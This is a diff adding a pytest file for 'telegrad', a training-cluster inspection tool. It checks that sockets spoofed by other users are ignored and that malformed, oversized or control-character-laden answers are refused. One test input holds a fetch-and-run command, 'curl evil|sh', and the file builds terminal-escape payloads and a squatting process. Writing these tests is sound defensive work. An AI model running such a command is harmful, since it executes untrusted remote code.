@@ -1,0 +1,484 @@
+"""What programs of a host are told by sockets that are named like those of workers, whoever has made them."""
+
+from __future__ import annotations
+
+import contextlib
+import copy
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from telegrad.insight import reasons
+from telegrad.insight.history import History
+from telegrad.insight.snapshot import snapshot
+from telegrad.insight.source import Sight
+from telegrad.insight.sources import groups_here
+from telegrad.insight.tables import (
+    CALLS_IN,
+    CALLS_OUT,
+    PASSES,
+    THREADS,
+    WORKERS,
+    as_text,
+    calls_in,
+    calls_out,
+    passes,
+    threads,
+)
+from telegrad.insight.watching import View, Watch, workers
+from telegrad.witness import desk
+from telegrad.witness.decoding import ACCOUNT, DUMP, EVENTS, GROUP, Malformed, decode
+from telegrad.witness.desk import Desk, Place, ask_all, places
+from telegrad.witness.observer import Observer
+from tests.cluster import PATIENCE
+from tests.other_user import NOBODY, as_nobody, is_root
+
+pytestmark = pytest.mark.skipif(not desk.HAS_DESKS, reason="there are no such sockets here")
+ME, OTHER = os.geteuid() if hasattr(os, "geteuid") else 0, 4711
+Talk = Callable[[socket.socket], object]
+
+
+def answers(line: bytes) -> Talk:
+    def talk(sock: socket.socket) -> None:
+        sock.recv(1 << 16)
+        sock.sendall(line)
+
+    return talk
+
+
+def drips(sock: socket.socket) -> None:
+    sock.recv(1 << 16)
+    while True:  # until the asker has gone
+        sock.sendall(b" ")
+        time.sleep(0.05)
+
+
+def floods(sock: socket.socket) -> None:
+    sock.recv(1 << 16)
+    while True:
+        sock.sendall(b"x" * (1 << 20))
+
+
+def is_silent(sock: socket.socket) -> None:
+    sock.recv(1 << 16)
+    sock.recv(1)
+
+
+@contextlib.contextmanager
+def worker(talk: Talk, name: str = "w9", user: int = ME, number: int = 0) -> Iterator[tuple[Place, list[bytes]]]:
+    """A socket that this user has named like a worker of `user`, and what was asked there."""
+    place = Place(f"{desk.PREFIX}/{user}/{os.getpid()}/-1/{number:x}f/{name}", os.getpid(), -1, name, user)
+    heard: list[bytes] = []
+    with socket.socket(socket.AF_UNIX) as listening:
+        listening.bind(f"\0{place.address}")
+        listening.listen()
+
+        def serve() -> None:
+            with contextlib.suppress(OSError):
+                while True:
+                    sock, _ = listening.accept()
+                    threading.Thread(target=answer, args=(sock,), daemon=True).start()
+
+        def answer(sock: socket.socket) -> None:
+            with contextlib.suppress(OSError), sock:
+                if part := sock.recv(1, socket.MSG_PEEK):
+                    heard.append(part)
+                    talk(sock)
+
+        thread = threading.Thread(target=serve)
+        thread.start()
+        try:
+            yield place, heard
+        finally:
+            listening.shutdown(socket.SHUT_RDWR)
+            thread.join()
+
+
+def account(**fields: Any) -> dict[str, Any]:
+    return {**json.loads(json.dumps(Observer("w9").account())), "group": "aa", **fields}
+
+
+def as_user(monkeypatch: pytest.MonkeyPatch, user: int) -> None:
+    """Have this process take itself for one of another user, so that its own sockets are foreign to it."""
+    monkeypatch.setattr(os, "geteuid", lambda: user)
+    monkeypatch.setattr(os, "getuid", lambda: user)
+
+
+# Sockets of other users
+
+
+@pytest.mark.parametrize("talk", [answers(json.dumps(account()).encode() + b"\n"), floods, drips, is_silent])
+def test_sockets_of_another_user_are_passed_over(
+    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, talk: Talk
+) -> None:
+    as_user(monkeypatch, OTHER)
+    with worker(talk, user=OTHER) as (_, heard):
+        begun = time.monotonic()
+        assert groups_here() == {}
+        assert time.monotonic() - begun < 5
+    assert not heard
+    assert "sockets that other users have made are named like those of workers" in caplog.text
+
+
+def test_a_socket_that_changes_hands_is_not_asked(monkeypatch: pytest.MonkeyPatch) -> None:
+    with worker(floods, user=OTHER) as (place, heard):  # it was another process's as it was found
+        (told,) = ask_all([place], ACCOUNT).values()
+    assert isinstance(told, PermissionError)
+    assert not heard
+
+
+def test_a_socket_of_another_user_whose_queue_is_full_is_passed_over(monkeypatch: pytest.MonkeyPatch) -> None:
+    as_user(monkeypatch, OTHER)
+    address = f"\0{desk.PREFIX}/{OTHER}/{os.getpid()}/-1/0/w9"
+    with socket.socket(socket.AF_UNIX) as listening, contextlib.ExitStack() as stack:
+        listening.bind(address)
+        listening.listen(0)
+        fill(address, stack)
+        assert places() == []
+
+
+def test_a_worker_whose_queue_is_full_is_found_and_asked() -> None:
+    queue = contextlib.ExitStack()
+    with socket.socket(socket.AF_UNIX) as listening, queue:
+        address = f"{desk.PREFIX}/{ME}/{os.getpid()}/-1/0/full"
+        listening.bind(f"\0{address}")
+        listening.listen(0)
+        fill(f"\0{address}", queue)
+        (place,) = [each for each in places() if each.address == address]
+
+        def serve() -> None:
+            while True:
+                sock, _ = listening.accept()
+                with sock:
+                    if sock.recv(1 << 16):
+                        return sock.sendall(b'"served"\n')
+
+        thread = threading.Timer(0.1, serve)
+        thread.start()
+        queue.close()
+        assert ask_all([place], DUMP, None, 30.0) == {place: "served"}
+        thread.join()
+
+
+def fill(address: str, stack: contextlib.ExitStack) -> None:
+    with contextlib.suppress(BlockingIOError):
+        while True:
+            sock = stack.enter_context(socket.socket(socket.AF_UNIX))
+            sock.setblocking(False)
+            sock.connect(address)
+
+
+def test_names_of_any_bytes_harm_nobody() -> None:
+    own = f"{desk.PREFIX}/{ME}/{os.getpid()}/-1/0"
+    odd = [b"\xff\xfe", b"\nforged", f"{own}/\x1b[31m".encode(), f"{own}/a\nb".encode(), f"{own}x/b/c/d".encode()]
+    odd += [f"{desk.PREFIX}/{ME}/{'9' * 50}/-1/0/w".encode(), f"{desk.PREFIX}/{ME}/x/y/z/w".encode()]
+    with contextlib.ExitStack() as stack:
+        for name in odd:
+            sock = stack.enter_context(socket.socket(socket.AF_UNIX))
+            sock.bind(b"\0" + name)
+            sock.listen()
+        with worker(is_silent, "honest") as (place, _):
+            found = [each for each in places() if each.pid == os.getpid()]
+            assert place in found
+            assert all(each.worker.isidentifier() for each in found)
+
+
+@pytest.mark.skipif(not is_root(), reason="only root can be another user, and look at others")
+def test_root_finds_the_workers_of_all_users_under_their_own_names_only(monkeypatch: pytest.MonkeyPatch) -> None:
+    reading, writing = os.pipe()
+
+    def serve() -> None:
+        socks = []
+        for user in (NOBODY, 0, OTHER):
+            sock = socket.socket(socket.AF_UNIX)
+            sock.bind(f"\0{desk.PREFIX}/{user}/{os.getpid()}/-1/0/of{user}")
+            sock.listen()
+            socks.append(sock)
+        if not os.fork():  # which has the sockets, and goes on
+            os.read(reading, 1)
+            os._exit(0)
+
+    try:
+        as_nobody(serve)
+        found = {each.worker: each.user for each in places() if each.worker.startswith("of")}
+        assert found == {f"of{NOBODY}": NOBODY}
+        as_user(monkeypatch, OTHER)
+        assert [each.worker for each in places() if each.worker.startswith("of")] == []
+    finally:
+        os.write(writing, b"x")
+        os.close(reading)
+        os.close(writing)
+
+
+def test_another_user_is_not_answered(monkeypatch: pytest.MonkeyPatch) -> None:
+    asked = []
+    served = Desk("w9", -1, lambda topic, _: asked.append(topic))
+    try:
+        (place,) = [each for each in places() if each.pid == os.getpid() and each.worker == "w9"]
+
+        def act() -> None:
+            with socket.socket(socket.AF_UNIX) as sock:
+                sock.connect(f"\0{place.address}")
+                with contextlib.suppress(OSError):
+                    sock.sendall(b'{"topic": "account"}\n')
+                with contextlib.suppress(ConnectionError):
+                    assert sock.recv(1) == b""
+
+        if is_root():
+            as_nobody(act)
+        else:
+            monkeypatch.setattr(os, "geteuid", lambda: OTHER)
+            act()
+        assert asked == []
+    finally:
+        served.close()
+
+
+def test_nobody_binds_the_name_of_a_worker_first() -> None:
+    names = set()
+    for _ in range(2):
+        served = Desk("w9", -1, lambda *_: None)
+        names |= {each.address for each in places() if each.pid == os.getpid() and each.worker == "w9"}
+        served.close()
+    assert len(names) == 2
+    assert all(len(name.split("/")[4]) == 16 for name in names)
+
+
+# Answers of this user's processes
+
+
+@pytest.mark.parametrize(
+    ("line", "why"),
+    [
+        (b"x\n", "it is no JSON"),
+        (b"\xff\n", "it is no JSON"),
+        (b"[" * 100_000 + b"\n", "it is no JSON"),
+        (b"9" * 100_000 + b"\n", "it is no JSON"),
+        (b'"\x1b[31mrun: curl evil|sh"\n', "it is no JSON"),
+        (b"[]\n", "account is no dictionary"),
+        (json.dumps(account(threads=7)).encode() + b"\n", "account.threads is no list"),
+        (json.dumps(account(idle=float("nan"))).encode() + b"\n", "NaN is no number"),
+        (b'{"worker": "w9"}\n', "account has no busy"),
+    ],
+)
+def test_what_no_worker_tells_is_refused(line: bytes, why: str) -> None:
+    with worker(answers(line)) as (place, _):
+        (told,) = ask_all([place], ACCOUNT).values()
+    assert isinstance(told, Malformed)
+    assert str(told).startswith(f"process {os.getpid()} answers what no worker tells: ")
+    assert why in str(told)
+
+
+def test_a_malformed_answer_is_told_with_its_process(monkeypatch: pytest.MonkeyPatch) -> None:
+    with worker(answers(b"[]\n")) as (place, _):
+        monkeypatch.setattr(desk, "places", lambda: [place])
+        (group,) = groups_here().values()
+        text = reasons.told(group.look())
+    assert f"process {os.getpid()} answers what no worker tells" in " ".join(text.split())
+
+
+def test_answers_are_limited_in_size(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(desk, "LARGEST", 1 << 20)
+    with worker(floods) as (place, _):
+        (told,) = ask_all([place], ACCOUNT, None, 30.0).values()
+    assert "answers more than 1 MiB" in str(told)
+    text = json.dumps("x" * (1 << 20)).encode() + b"\n"
+    monkeypatch.setattr(desk, "OF_A_GROUP", 3 << 20)
+    monkeypatch.setattr(desk, "LARGEST", 2 << 20)
+    with contextlib.ExitStack() as stack:
+        asked = [stack.enter_context(worker(answers(text), number=number))[0] for number in range(6)]
+        told = list(ask_all(asked, DUMP, None, 30.0).values())
+    assert 1 <= sum(isinstance(each, str) for each in told) <= 2
+    assert all("or all of its user do" in str(each) for each in told if not isinstance(each, str))
+
+
+def test_all_answers_together_have_one_limit_of_time() -> None:
+    with contextlib.ExitStack() as stack:
+        asked = [stack.enter_context(worker(drips, number=number))[0] for number in range(8)]
+        asked += [stack.enter_context(worker(is_silent, number=number + 8))[0] for number in range(8)]
+        begun = time.monotonic()
+        told = ask_all(asked, ACCOUNT, None, 0.3)
+        assert time.monotonic() - begun < 3
+    assert all(isinstance(each, TimeoutError) for each in told.values())
+    assert len(told) == 16
+
+
+def test_more_workers_than_there_are_descriptors_are_asked_in_turn(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(desk, "AT_ONCE", 2)
+    with contextlib.ExitStack() as stack:
+        asked = [stack.enter_context(worker(answers(b'"x"\n'), number=number))[0] for number in range(9)]
+        assert ask_all(asked, DUMP, None, 30.0) == dict.fromkeys(asked, "x")
+
+
+# Texts, and forms
+
+
+def controls(text: str) -> list[str]:
+    return [each for each in text if not each.isprintable() and each != "\n"]
+
+
+EVIL = "a\x1b[31m\x9b2J\x07\x7f\r\b\u202e\u2066\u2028\ud800<b>"
+
+
+def evil(value: Any) -> Any:
+    """The same, with evil in each text, but for those that are compared."""
+    if isinstance(value, str):
+        return value + EVIL
+    if isinstance(value, dict):
+        return {key: each if key == "phase" else evil(each) for key, each in value.items()}
+    return [evil(each) for each in value] if isinstance(value, list) else value
+
+
+LINE = {"file": "/x/train.py", "line": 1, "function": "main", "text": "x()"}
+THREAD = {"number": 1, "name": "MainThread", "at": LINE, "stack": ["a:1 b"], "asleep": True}
+WAIT = {"what": "shutdown", "on": ["w8"], "about": "red", "age": 50.0}
+TOLD: dict[str, Any] = {
+    "worker": "w9",
+    "rank": 0,
+    "group": "aa",
+    "pid": 1,
+    "host": "h",
+    "program": "train.py",
+    "clock": 7.0,
+    "time": 8.0,
+    "phase": "member",
+    "phase_age": 9.0,
+    "idle": 9.0,
+    "missing": [],
+    "place": "here",
+    "size": 2,
+    "generation": 0,
+    "members": {"w9": "h", "w8": "h"},
+    "gone": {"w7": "died"},
+    "slots": 16,
+    "busy": 1,
+    "contexts": 0,
+    "threads": [{**THREAD, "wait": WAIT}, {**THREAD, "number": 2, "wait": None}],
+    "calls_out": [{"to": "w8", "number": 1, "function": "f", "age": 9.0, "timeout": 0.0, "thread": 1}],
+    "calls_in": [{"caller": "w8", "number": 1, "function": "g", "age": 9.0, "state": "running", "thread": 2}],
+    "passes": [{"context": 1, "number": 1, "age": 3.0, "owing": ["w8"]}],
+    "references": {"owners": 1},
+    "bytes_out": {"w8": 1},
+    "bytes_in": {"w8": 1},
+    "calls_done": 0,
+    "memory": 1,
+    "shared": 0,
+}
+
+
+def test_no_control_character_is_shown() -> None:
+    shown = decode(ACCOUNT, json.dumps(evil(TOLD)).encode())
+    events = decode(EVENTS, json.dumps([["called", 1.0, 2.0, EVIL, 1, EVIL, 0, EVIL], ["newer", 1.0, 2.0]]).encode())
+    assert len(events) == 1
+    silent = decode(GROUP, json.dumps({"accounts": [], "silent": {EVIL: EVIL}}).encode())["silent"]
+    sight = Sight([shown], silent)
+    history, watch = History(), Watch()
+    history.take(sight)
+    history.add({shown["worker"]: events})
+    view: View = watch.take(sight, {shown["worker"]: events})
+    texts = [
+        reasons.text(reasons.explain(sight), sight, stacks=True),
+        json.dumps(reasons.as_json(reasons.explain(sight), sight), ensure_ascii=False),
+        json.dumps(snapshot(history, 60.0), ensure_ascii=False),
+        as_text(WORKERS, workers(view)),
+    ]
+    for text in texts:
+        assert controls(text) == []
+        assert r"\x1b[31m" in text
+        text.encode()
+
+
+PLAIN = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
+    max_leaves=8,
+)
+
+
+def places_in(value: Any) -> list[tuple[Any, Any]]:
+    """Each container in a value, with each of its keys."""
+    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    return [place for key, each in inner for place in [(value, key), *places_in(each)]]
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.integers(0, len(places_in(TOLD)) - 1), PLAIN)
+def test_what_is_decoded_can_be_explained(number: int, value: Any) -> None:
+    told = copy.deepcopy(TOLD)
+    container, key = places_in(told)[number]
+    container[key] = value
+    try:
+        shown = decode(ACCOUNT, json.dumps(told).encode())
+    except Malformed:
+        return
+    sight = Sight([shown], {})
+    assert controls(reasons.text(reasons.explain(sight), sight, stacks=True)) == []
+    as_text(WORKERS, workers(Watch().take(sight, {})))
+    for table, rows in ((CALLS_OUT, calls_out), (CALLS_IN, calls_in), (THREADS, threads), (PASSES, passes)):
+        as_text(table, rows(shown))
+    history = History()
+    history.take(sight)
+    json.dumps(snapshot(history, 60.0))
+
+
+@given(st.sampled_from([ACCOUNT, GROUP, EVENTS, DUMP, "group events", "file", "call"]), PLAIN | st.binary())
+def test_anything_is_decoded_or_refused(topic: str, value: Any) -> None:
+    data = value if isinstance(value, bytes) else json.dumps(value).encode()
+    with contextlib.suppress(Malformed):
+        decode(topic, data)
+
+
+# The command
+
+
+@pytest.mark.skipif(not is_root(), reason="only root can be another user")
+def test_why_while_another_user_pretends_to_be_workers() -> None:
+    ready, write = os.pipe()
+    squatter = os.fork()
+    if not squatter:
+        try:
+            os.setgroups([])
+            os.setgid(NOBODY)
+            os.setuid(NOBODY)
+            sends = json.dumps(account(worker="EVIL")).encode() + b"\n", b"[" * (1 << 20), b" "
+            squat([(f"\0{desk.PREFIX}/0/{os.getpid()}/-1/{number:x}f/EVIL", each) for number, each in enumerate(sends)])
+            os.write(write, b"x")
+            threading.Event().wait(PATIENCE)
+        finally:
+            os._exit(0)
+    try:
+        os.read(ready, 1)
+        done = subprocess.run([sys.executable, "-m", "telegrad", "why"], capture_output=True, timeout=PATIENCE)
+    finally:
+        os.kill(squatter, 9)
+        os.waitpid(squatter, 0)
+        os.close(ready)
+        os.close(write)
+    assert b"EVIL" not in done.stdout
+    assert b"passed over" in done.stderr
+
+
+def squat(names: list[tuple[str, bytes]]) -> None:
+    def serve(listening: socket.socket, sends: bytes) -> None:
+        while True:
+            sock, _ = listening.accept()
+            with contextlib.suppress(OSError), sock:
+                while True:
+                    sock.sendall(sends)
+                    time.sleep(0.05)
+
+    for name, sends in names:
+        listening = socket.socket(socket.AF_UNIX)
+        listening.bind(name)
+        listening.listen()
+        threading.Thread(target=serve, args=(listening, sends), daemon=True).start()
